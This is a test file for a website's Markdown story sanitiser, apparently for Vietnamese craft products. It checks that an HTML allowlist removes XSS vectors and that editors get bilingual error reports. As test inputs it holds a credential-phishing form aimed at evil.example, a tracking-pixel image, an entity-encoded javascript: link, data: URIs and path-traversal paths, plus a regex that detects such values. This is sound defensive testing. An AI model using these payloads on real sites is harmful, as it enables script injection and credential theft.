import { createMarkdownProcessor } from '@astrojs/markdown-remark';
import * as cheerio from 'cheerio';
import { beforeAll, describe, expect, it } from 'vitest';
import { checkStoryBody, formatProblems } from '../../src/lib/check/index.ts';
import { parseStory } from '../../src/lib/content/files.ts';
import { sanitiseStoryHtml, storyPictureAllowed, storyPictureSources } from '../../src/lib/content/story-sanitise.ts';
import { XSS_CORPUS } from '../fixtures/xss/corpus.ts';

/** A story file as an editor writes it: front matter (lines 1–4), then the body from line 5. */
function story(body: string, file = 'content/products/non-la/story.vi.md') {
	return { file, id: 'vi', ...parseStory(`---\nname: Nón lá\nsummary: Nón lá thủ công.\n---\n${body}`) };
}

let render: (markdown: string) => Promise<string>;
beforeAll(async () => {
	// Astro's Markdown pipeline with the site's settings, then the allowlist: what src/content.config.ts does.
	const processor = await createMarkdownProcessor({ syntaxHighlight: false });
	render = async (markdown) => sanitiseStoryHtml((await processor.render(markdown)).code.trimEnd());
});

/** Everything in `html` that could run code, submit, load from another host or redirect the page. */
function dangers(html: string): string[] {
	const $ = cheerio.load(html, null, false);
	const found: string[] = [];
	for (const el of $('*').toArray()) {
		if (el.type !== 'tag') continue;
		const tag = el.tagName.toLowerCase();
		if (!['p', 'a', 'img', 'em', 'strong', 'details', 'summary', 'span', 'div', 'code', 'pre', 'br', 'ul', 'ol', 'li'].includes(tag))
			found.push(`<${tag}>`);
		for (const [name, value] of Object.entries(el.attribs) as Array<[string, string]>) {
			const allowed =
				(name === 'href' &&
					tag === 'a' &&
					/^(https?:\/\/|mailto:|tel:|\/|#|[a-z0-9])/i.test(value) &&
					!/^[a-z][a-z0-9+.-]*:/i.test(value.replace(/^(https?|mailto|tel):/i, ''))) ||
				(name === 'src' && tag === 'img' && storyPictureAllowed(value)) ||
				['alt', 'title', 'open'].includes(name);
			// alt and title are shown as text (a quoted value in which "<" starts nothing), never followed or run.
			const text = name === 'alt' || name === 'title';
			if (!allowed || (!text && /evil\.example|alert|javascript|vbscript|data:/i.test(value))) found.push(`${tag} ${name}="${value}"`);
		}
	}
	return found;
}

describe('the story allowlist', () => {
	it.each(XSS_CORPUS)('leaves nothing of %s that could run, submit, load from another host or redirect', async (_, vector) => {
		const html = await render(`Nón lá.\n\n${vector}\n`);
		expect(dangers(html), html).toEqual([]);
	});

	it('keeps what a story needs: paragraphs, emphasis, lists, links to web pages, mail, phones and the site, pictures of its folder', async () => {
		const html = await render(
			[
				'Nón lá **Phương Trung** được chằm *bằng tay*.',
				'',
				'- [Bản đồ](https://www.openstreetmap.org/)',
				'- [Thư](mailto:htx@example.org) và [gọi](tel:+842400000000)',
				'- [Các sản phẩm](/san-pham/)',
				'',
				'![Nón lá phơi nắng](cover.jpg)',
				'',
				'<details><summary>Cách bảo quản</summary>Để nơi khô ráo.</details>',
			].join('\n'),
		);
		expect(html).toContain('<strong>Phương Trung</strong>');
		expect(html).toContain('<em>bằng tay</em>');
		expect(html).toContain('<a href="https://www.openstreetmap.org/">Bản đồ</a>');
		expect(html).toContain('<a href="mailto:htx@example.org">Thư</a>');
		expect(html).toContain('<a href="tel:+842400000000">gọi</a>');
		expect(html).toContain('<a href="/san-pham/">Các sản phẩm</a>');
		expect(html).toContain('<img src="cover.jpg" alt="Nón lá phơi nắng">');
		expect(html).toContain('<details><summary>Cách bảo quản</summary>Để nơi khô ráo.</details>');
	});

	it('turns Astro’s placeholder for a picture of the story’s folder back into the picture, and lists the pictures a story shows', async () => {
		const processor = await createMarkdownProcessor({ syntaxHighlight: false });
		// With the story's file, as the content layer renders it, Astro writes <img __ASTRO_IMAGE_="…"> for its own image service.
		const raw = await processor.render('Nón lá.\n\n![Nón lá phơi nắng](cover.jpg "Nón")\n\n![Ảnh](https://evil.example/a.gif)\n', {
			fileURL: new URL('file:///site/content/products/non-la/story.vi.md'),
		});
		expect(raw.code).toContain('__ASTRO_IMAGE_');
		const html = sanitiseStoryHtml(raw.code);
		expect(html).toContain('<img src="cover.jpg" alt="Nón lá phơi nắng" title="Nón">');
		expect(html).not.toMatch(/astro_image|evil\.example/i);
		expect(storyPictureSources(`${html}<img src="anh/2.webp" alt=""><img src="cover.jpg">`)).toEqual(['cover.jpg', 'anh/2.webp']);
	});

	it('takes pictures only from the story’s own folder', () => {
		for (const ok of ['cover.jpg', './cover.jpg', 'anh/1.webp']) expect(storyPictureAllowed(ok), ok).toBe(true);
		for (const bad of [
			'https://evil.example/a.gif',
			'//evil.example/a.gif',
			'/_img/a.webp',
			'../other/cover.jpg',
			'anh/../../x.jpg',
			'data:image/gif;base64,R0lGOD',
			'C:\\x.jpg',
			'',
		])
			expect(storyPictureAllowed(bad), bad).toBe(false);
	});

	it('prefixes ids a story writes, so they cannot take the place of the page’s own', async () => {
		expect(await render('<p id="main">x</p>')).toBe('<p id="story-main">x</p>');
	});
});

describe('the story check tells the editor what the allowlist would remove', () => {
	it.each(XSS_CORPUS)('reports %s on its line', (_, vector) => {
		const problems = checkStoryBody(story(`Nón lá.\n\n${vector}\n`));
		expect(problems.length, vector).toBeGreaterThan(0);
		for (const p of problems) {
			expect(p.line).toBe(7);
			expect(p.file).toBe('content/products/non-la/story.vi.md');
		}
	});

	it('names a form to another host with the fix in both languages', () => {
		expect(formatProblems(checkStoryBody(story('<form action="https://evil.example/login"><input name="password"></form>\n'))))
			.toMatchInlineSnapshot(`
			"Nội dung có 2 lỗi, chưa thể xây dựng trang. / The content has 2 problem(s); the site was not built.

			1. content/products/non-la/story.vi.md:5 [OCOP-E029 story-element-not-allowed]
			   vi: Dòng 5: thẻ <form> không nằm trong danh sách thẻ câu chuyện được dùng nên bị bỏ khi dựng trang (chữ bên trong vẫn giữ). Cách sửa: xoá thẻ <form>; dùng Markdown (# tiêu đề, **đậm**, [liên kết](https://…)).
			   en: Line 5: <form> is not one of the elements a story may hold, so the build leaves it out (its text stays). Fix: remove the <form> tag; use Markdown (# heading, **bold**, [link](https://…)).
			2. content/products/non-la/story.vi.md:5 [OCOP-E029 story-element-not-allowed]
			   vi: Dòng 5: thẻ <input> không nằm trong danh sách thẻ câu chuyện được dùng nên bị bỏ khi dựng trang (chữ bên trong vẫn giữ). Cách sửa: xoá thẻ <input>; dùng Markdown (# tiêu đề, **đậm**, [liên kết](https://…)).
			   en: Line 5: <input> is not one of the elements a story may hold, so the build leaves it out (its text stays). Fix: remove the <input> tag; use Markdown (# heading, **bold**, [link](https://…))."
		`);
	});

	it('names a picture from another host with the fix in both languages', () => {
		expect(formatProblems(checkStoryBody(story('![Ảnh](https://evil.example/pixel.gif)\n')))).toMatchInlineSnapshot(`
			"Nội dung có 1 lỗi, chưa thể xây dựng trang. / The content has 1 problem(s); the site was not built.

			1. content/products/non-la/story.vi.md:5 [OCOP-E031 story-address-not-allowed]
			   vi: Dòng 5: ảnh "https://evil.example/pixel.gif" không phải một tệp trong thư mục của sản phẩm nên bị bỏ khi dựng trang (ảnh từ trang khác cho trang đó biết ai đang đọc). Cách sửa: chép ảnh vào thư mục sản phẩm và ghi tên tệp, ví dụ ![mô tả](anh-1.jpg).
			   en: Line 5: the picture "https://evil.example/pixel.gif" is not a file of the product's folder, so the build leaves it out (a picture from another site tells that site who reads the page). Fix: copy the picture into the product folder and write its file name, e.g. ![description](photo-1.jpg)."
		`);
	});

	it('names an entity-hidden javascript: link', () => {
		expect(formatProblems(checkStoryBody(story('<a href="&#106;avascript:alert(document.domain)">Xem thêm</a>\n')))).toMatchInlineSnapshot(`
			"Nội dung có 1 lỗi, chưa thể xây dựng trang. / The content has 1 problem(s); the site was not built.

			1. content/products/non-la/story.vi.md:5 [OCOP-E031 story-address-not-allowed]
			   vi: Dòng 5: địa chỉ href="javascript:alert(document.domain)" không được phép nên bị bỏ khi dựng trang: liên kết chỉ được dẫn tới http:, https:, mailto:, tel: hoặc một trang của chính trang web. Cách sửa: ghi địa chỉ https://… của trang cần dẫn tới, hoặc bỏ liên kết.
			   en: Line 5: the address href="javascript:alert(document.domain)" is not allowed, so the build leaves it out: links may only go to http:, https:, mailto:, tel: or a page of the site. Fix: write the https://… address of the page, or remove the link."
		`);
	});

	it('says nothing of a story the allowlist keeps whole', () => {
		expect(
			checkStoryBody(
				story('Nón lá [bản đồ](https://www.openstreetmap.org/), ![Nón](cover.jpg) và <details><summary>a</summary>b</details>\n'),
				() => true, // cover.jpg is in the product folder
			),
		).toEqual([]);
	});
});
